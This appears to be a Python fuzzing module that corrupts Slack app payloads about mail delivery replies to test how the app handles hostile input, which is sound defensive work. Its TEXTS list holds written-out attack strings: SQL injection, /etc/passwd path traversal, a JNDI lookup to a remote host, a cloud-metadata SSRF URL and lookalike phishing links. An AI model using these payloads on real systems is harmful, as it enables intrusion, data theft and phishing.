"""Payloads changed by chance: what is missing, of another type, too long, too deep, of another place, or unreadable."""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Any

JSON = Any
Path = tuple[Any, ...]
Change = Callable[[JSON, Path, random.Random], None]

TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "x\udfff\ud83d",
    "\u202e5.1.1 055",
    "\u200b\ufeff\u2028\u2029",
    "\x1b[31m\x07\x08",
    "e" + "\u0301" * 300,
    "👩‍👩‍👧‍👦" * 40,
    "<!channel> <!here> <@U0ALL> <https://evil.example.com|Sign in to Slack>",
    "*_~`" * 50,
    "```\n550 5.1.1\n",
    "&lt;!channel&gt; &amp;amp;",
    "{{7*7}} ${jndi:ldap://192.0.2.1/a} %s %d {0} {}",
    "'; DROP TABLE answers; --",
    "../../etc/passwd",
    "-1",
    "0",
    "1e309",
    "nan",
    "9" * 400,
    "1" * 20 + "." + "2" * 20,
    "550 5.1.1 <a@example.com>: user unknown",
    "451 4.7.1 Greylisted, try again later",
    "550-5.7.26 " * 40,
    "\n".join(f"550 5.1.1 <u{n}@example.com>: unknown" for n in range(60)),
    "A" * 50_000,
    "<" * 4_000,
    "٤٥١ ４５１ 4．7．1",
    '{"entry": "reply.550"}',
    "1" + '{"entry":"reply.550","quote":"<!channel>","asker":"UEVIL","others":["no.such.entry"]}',
    "1" + '{"entry":"no.such.entry"}',
    "1" + '{"entry":"reply.550","values":{"ip":"<!here>","domain":"evil|x>","wait":-99999999999999}}',
    "1" + '{"entry":"reply.550","count":-5,"recipients":99999999999999}',
    "1" + '{"x":' + "[" * 1_900,
    "1;steps;reply.550;550;;unknown;reply;;;no;no",
    "steps|1" + '{"entry":"reply.550"}',
    "T0OTHER|C0OTHER|1700000000.000100",
    "|||||||",
    "1700000000.000100|1" + '{"entry":"reply.550"}',
    "C0DOESNOTEXIST",
    "U0DOESNOTEXIST",
    "1600000000.000001",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:1/hooks/x",
    "file:///etc/passwd",
    "https://hooks.slack.com.evil.example.com/x",
    "https://slack.com@evil.example.com/",
    "http://[::1",
)
OTHERS: tuple[JSON, ...] = (
    None, True, False, 0, -1, 7, 3.5, 10**40, -(10**300), [], {}, [[]], [None], [{}], {"id": None}, {"id": {}}, {"": ""},
    ["a", 1, None, {}], {"type": "message"}, "", "x",
)  # fmt: skip


# Where what people write and what the app gave out stands: changes elsewhere mostly end at the door.
CONTENTS = frozenset(
    (
        "text",
        "value",
        "private_metadata",
        "state",
        "blocks",
        "files",
        "attachments",
        "metadata",
        "actions",
        "name",
        "inputs",
    )
)


def changed(payload: JSON, chance: random.Random) -> JSON:
    """A copy of a payload with one to four changes."""
    made, within = copied(payload), chance.random() < 0.5
    for _ in range(chance.choice((1, 1, 1, 2, 2, 3, 4))):
        places = paths(made)
        if within:
            places = [place for place in places if CONTENTS.intersection(place)] or places
        if not places:
            return made
        change = chance.choice(CHANGES)
        change(made, chance.choice(places), chance)
    return made


def copied(value: JSON) -> JSON:
    """A deep copy of JSON."""
    if isinstance(value, dict):
        return {key: copied(inner) for key, inner in value.items()}
    return [copied(inner) for inner in value] if isinstance(value, list) else value


def paths(value: JSON, at: Path = ()) -> list[Path]:
    """Every place in a payload, the outer ones as often as all that is in them, so that long blocks do not hide them."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    found: list[Path] = []
    for key, one in inner:
        below = paths(one, (*at, key))
        found += [(*at, key)] * (1 + len(below) // 2 if len(at) < 3 else 1) + below
    return found


def parent(payload: JSON, path: Path) -> JSON:
    """What holds the value at a path."""
    for key in path[:-1]:
        payload = payload[key]
    return payload


def missing(payload: JSON, path: Path, chance: random.Random) -> None:
    """Takes a key or an item away."""
    del parent(payload, path)[path[-1]]


def other(payload: JSON, path: Path, chance: random.Random) -> None:
    """Puts something of another type in its place."""
    parent(payload, path)[path[-1]] = copied(chance.choice(OTHERS))


def text(payload: JSON, path: Path, chance: random.Random) -> None:
    """Puts a hostile text in its place."""
    parent(payload, path)[path[-1]] = chance.choice(TEXTS)


def grown(payload: JSON, path: Path, chance: random.Random) -> None:
    """Adds a hostile text to a text, or more of the same to a list."""
    there = parent(payload, path)[path[-1]]
    if isinstance(there, str):
        add = chance.choice(TEXTS)
        at = chance.randint(0, len(there))
        parent(payload, path)[path[-1]] = there[:at] + add + there[at:]
    elif isinstance(there, list) and there:
        parent(payload, path)[path[-1]] = copied(there) * chance.choice((2, 30))
    else:
        text(payload, path, chance)


def number(payload: JSON, path: Path, chance: random.Random) -> None:
    """A number for a text and a text for a number."""
    there = parent(payload, path)[path[-1]]
    digits = isinstance(there, str) and there.replace(".", "", 1).isascii() and there.replace(".", "", 1).isdigit()
    if digits and len(str(there)) < 40:
        parent(payload, path)[path[-1]] = float(str(there)) if "." in str(there) else int(str(there))
    else:
        parent(payload, path)[path[-1]] = str(there)[:100]


def nested(payload: JSON, path: Path, chance: random.Random) -> None:
    """Wraps a value in lists or mappings, some of them deep."""
    value = copied(parent(payload, path)[path[-1]])
    key = chance.choice(("", "elements", "text", "blocks", "message", "attachments", "id"))
    for _ in range(chance.choice((1, 2, 30))):
        value = [value] if not key else {"type": "rich_text_section", key: value if key != "elements" else [value]}
    parent(payload, path)[path[-1]] = value


def swapped(payload: JSON, path: Path, chance: random.Random) -> None:
    """Puts a value from elsewhere in the payload here."""
    value = payload
    for key in chance.choice(paths(payload)):
        value = value[key]
    parent(payload, path)[path[-1]] = copied(value)


def letters(payload: JSON, path: Path, chance: random.Random) -> None:
    """Flips a few letters of a text to any code point."""
    there = parent(payload, path)[path[-1]]
    if not isinstance(there, str) or not there:
        text(payload, path, chance)
        return
    made = list(there)
    for _ in range(chance.randint(1, 4)):
        made[chance.randrange(len(made))] = chr(
            chance.choice((chance.randint(0, 0x7F), chance.randint(0, 0xFFFF), chance.randint(0, 0x10FFFF)))
        )
    parent(payload, path)[path[-1]] = "".join(made)


CHANGES: tuple[Change, ...] = (
    missing,
    missing,
    other,
    other,
    text,
    text,
    text,
    grown,
    number,
    nested,
    swapped,
    letters,
)
